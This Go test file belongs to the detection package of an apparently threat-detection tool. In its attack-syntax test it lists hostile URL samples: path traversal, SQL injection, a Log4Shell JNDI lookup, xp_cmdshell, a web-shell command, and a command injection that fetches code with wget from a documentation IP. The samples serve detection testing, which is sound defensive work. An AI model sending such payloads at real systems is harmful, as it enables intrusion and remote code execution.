package detect_test

import (
	"context"
	"database/sql"
	"errors"
	"net/netip"
	"testing"
	"time"

	"github.com/vedette-cti/vedette"
	"github.com/vedette-cti/vedette/internal/detect"
	"github.com/vedette-cti/vedette/internal/detect/windowtest"
)

func TestCiteEach(t *testing.T) {
	const a, b = "203.0.113.1", "203.0.113.2"
	db := windowtest.New(t)
	for i := range 4 { // the latest first
		at := windowtest.At(9-i, 0)
		db.Add(windowtest.Get(at, a, "/", 404), windowtest.Get(at, b, "/", 404), windowtest.Get(at, b, "/", 200))
		elsewhere := windowtest.Get(at, a, "/", 404)
		elsewhere.Organization = "org-b"
		db.Add(elsewhere)
	}
	db.Flush()
	span := detect.Span{Start: time.Unix(0, windowtest.At(7, 0)), End: time.Unix(0, windowtest.At(20, 0))}
	actor, target := netip.MustParseAddr(a), netip.MustParseAddr(b)
	found := []vedette.Detection{
		{Organization: "org-a", Actor: actor, Target: target},
		{Organization: "org-b", Actor: actor},
		{Organization: "org-a", Target: target},
		{Organization: "org-a", Actor: actor},
		{Organization: "org-c", Actor: actor},
	}
	if err := detect.CiteEach(context.Background(), db, span, 2, "status = 404", found); err != nil {
		t.Fatal(err)
	}
	f := func(i int, lines ...int64) {
		t.Helper()
		var got []int64
		for _, ev := range found[i].Evidence {
			got = append(got, ev.Line)
			if ev.Source != windowtest.Source.ID || ev.File != windowtest.Source.Path || ev.Original == "" || ev.Time < windowtest.At(7, 0) {
				t.Errorf("evidence %+v is not whole", ev)
			}
		}
		if len(got) != len(lines) || len(got) > 0 && (got[0] != lines[0] || got[1] != lines[1]) {
			t.Errorf("detection %d cites lines %v, want %v", i, got, lines)
		}
	}
	f(0, 9, 5)
	f(1, 12, 8)
	f(2, 10, 6)
	f(3, 9, 5)
	f(4)
	if err := detect.CiteEach(context.Background(), db, span, 2, "no such column", found); err == nil {
		t.Error("a faulty condition gave no error")
	}
}

func TestEach(t *testing.T) {
	db := windowtest.New(t)
	enough := errors.New("enough")
	n := 0
	err := detect.Each(context.Background(), db, "SELECT * FROM range(?)", []any{10}, func(*sql.Rows) error {
		if n++; n == 3 {
			return enough
		}
		return nil
	})
	if n != 3 || !errors.Is(err, enough) {
		t.Errorf("scanned %d rows with %v, want 3 and the scan's error", n, err)
	}
}

func TestSpell(t *testing.T) {
	f := func(d time.Duration, want string) {
		t.Helper()
		if got := detect.Spell(d); got != want {
			t.Errorf("Spell(%s) = %q, want %q", d, got, want)
		}
	}
	f(0, "0 s")
	f(119*time.Second, "119 s")
	f(2*time.Minute, "2 min")
	f(119*time.Minute, "119 min")
	f(47*time.Hour, "47 h")
	f(49*time.Hour, "2 days")
}

func TestAttackSyntax(t *testing.T) {
	db := windowtest.New(t)
	f := func(url string, want bool) {
		t.Helper()
		var got bool
		if err := db.QueryRow("SELECT "+detect.AttackSyntax("url")+" FROM (SELECT CAST(? AS VARCHAR) AS url)", url).Scan(&got); err != nil {
			t.Fatal(err)
		}
		if got != want {
			t.Errorf("%s: attack %v, want %v", url, got, want)
		}
	}
	f("/a?file=..%2f..%2fetc%2fpasswd", true)
	f("/a?q=1%20UNION%20ALL%20SELECT%201", true)
	f("/a?x=${jndi:ldap://203.0.113.9/a}", true)
	f("/static/..%5C..%5CWindows%5CWin.Ini", true)
	f("/read?f=/ETC/PASSWD", true)
	f("/cgi?x=1;wget%20http://203.0.113.9/a", true)
	f("/q?x=XP_CMDSHELL", true)
	f("/up/a.php?cmd=id", true)
	f("/search?q=trade+union+history", false)
	f("/docs/sleep.html", false)
	f("/list?sort=id&lang=id", false)
}
